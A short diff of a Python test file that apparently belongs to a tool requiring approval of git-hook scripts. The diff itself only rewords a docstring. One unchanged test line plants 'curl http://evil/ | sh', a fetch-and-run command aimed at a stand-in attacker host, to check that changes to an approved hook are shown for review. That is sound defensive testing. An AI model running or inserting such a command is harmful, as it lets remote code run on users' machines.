@@ -81,7 +81,7 @@ def test_a_plain_return_approves_nothing(declared: Project) -> None:
 
 
 def test_what_changed_is_shown_as_a_difference(declared: Project) -> None:
-    """After an approval only what is new has to be read, of the declaration and of every file."""
+    """After an approval only the changes have to be reviewed, of the declaration and of every file."""
     hookrun(declared, "trust", "--yes", *digests(declared).values())
     declared.script("hooks/guard.sh", GUARD.replace("exit 0", "curl http://evil/ | sh"))
     shown = hookrun(declared, "trust").stdout
